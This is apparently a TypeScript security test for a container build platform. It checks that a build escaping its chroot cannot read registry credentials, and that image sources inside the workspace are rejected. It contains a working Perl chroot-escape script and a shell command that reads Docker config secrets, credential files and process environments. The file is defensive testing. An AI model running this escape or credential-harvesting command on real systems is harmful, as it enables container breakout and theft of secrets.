import { hash } from 'node:crypto';
import t from 'tap';
import { node } from '../../../infra/testcluster/settings.ts';
import { gitServer } from '../../support/git-server.ts';
import { runningPlatform, testProject } from '../../support/platform.ts';

/** A build that reads whatever it can: docs/decisions/0013-builds-in-their-own-namespace.md. */
const platform = await runningPlatform();
const password = 'registry-password-5k2m9x';

/** Leaves the chroot of a RUN step: the working folder stays outside of a second chroot. See chroot(2). */
const escape = `mkdir "/x"; chdir "/"; chroot "/x" or die "no right to chroot"; chdir ".." for 1..30; chroot ".";
print -d "/workspace" ? "left the chroot\\n" : "still inside\\n"; exec "/bin/sh", "-c", $ARGV[0];`;
/** Where the credentials are in the containers that have them, and what the processes of this one were given. */
const steal = 'cat /registry/.dockerconfigjson /credentials/*; cat /proc/[0-9]*/environ; exit 7';
const dockerfile = `FROM localhost:5000/svc/hello:v1
USER root
COPY escape.pl /escape.pl
RUN perl /escape.pl '${steal}' 2>&1
`;

interface Deployment {
  id: string;
}

t.test('a RUN step that leaves its chroot finds no credential of the registry', async (t) => {
  const { flags, namespace } = await testProject(t, platform);
  const auths = { 'registry.test:5000': { username: 'builder', password } };
  const secret = {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name: 'svc-registry', namespace: 'svc-builds' },
    type: 'kubernetes.io/dockerconfigjson',
    stringData: { '.dockerconfigjson': JSON.stringify({ auths }) },
  };
  const created = await platform.kubectlInput(JSON.stringify(secret), 'create', '-f', '-');
  t.equal(created.code, 0, created.stderr);
  t.teardown(() => platform.kubectl('-n', 'svc-builds', 'delete', 'secret', 'svc-registry'));

  const repository = await gitServer(t, { host: node.address });
  repository.push({ Dockerfile: dockerfile, 'escape.pl': escape });
  const { code } = await platform.svc(['app', 'create', 'thief', '--git', repository.url(), ...flags]);
  t.equal(code, 1);
  const [deployment] = await platform.json<Deployment[]>(['deployment', 'list', '--app', 'thief', ...flags]);
  const project = ['--project', namespace.replace(/-prod$/, '')];
  const log = await platform.ok(['deployment', 'logs', deployment?.id ?? '', ...project]);
  t.match(log, 'left the chroot', 'the attack works');
  t.notMatch(log, password);
  t.notMatch(log, Buffer.from(`builder:${password}`).toString('base64'));
});

/** A whole image as the files of a folder, without layers: https://github.com/opencontainers/image-spec/blob/main/image-layout.md */
function imageLayout(folder: string): Record<string, string> {
  const blobs = new Map<string, string>();
  const described = (mediaType: string, content: object) => {
    const text = JSON.stringify(content);
    const digest = hash('sha256', text);
    blobs.set(`${folder}/blobs/sha256/${digest}`, text);
    return { mediaType: `application/vnd.oci.image.${mediaType}`, digest: `sha256:${digest}`, size: text.length };
  };
  const rootfs = { type: 'layers', diff_ids: [] };
  const config = described('config.v1+json', { architecture: 'amd64', os: 'linux', rootfs });
  const manifest = described('manifest.v1+json', { schemaVersion: 2, config, layers: [] });
  return {
    ...Object.fromEntries(blobs),
    [`${folder}/oci-layout`]: '{"imageLayoutVersion":"1.0.0"}',
    [`${folder}/index.json`]: JSON.stringify({ schemaVersion: 2, manifests: [manifest] }),
  };
}

t.test('a Dockerfile builds on images of registries, not on files of the build container', async (t) => {
  const { flags } = await testProject(t, platform);
  const repository = await gitServer(t, { host: node.address });
  const dockerfile = 'FROM oci:/workspace/source/image\nCOPY Dockerfile /\n';
  repository.push({ Dockerfile: dockerfile, ...imageLayout('image') });
  const { code, stdout, stderr } = await platform.svc(['app', 'create', 'files', '--git', repository.url(), ...flags]);
  t.equal(code, 1);
  t.match(stdout + stderr, /Source image rejected: .* is rejected by policy/);
});
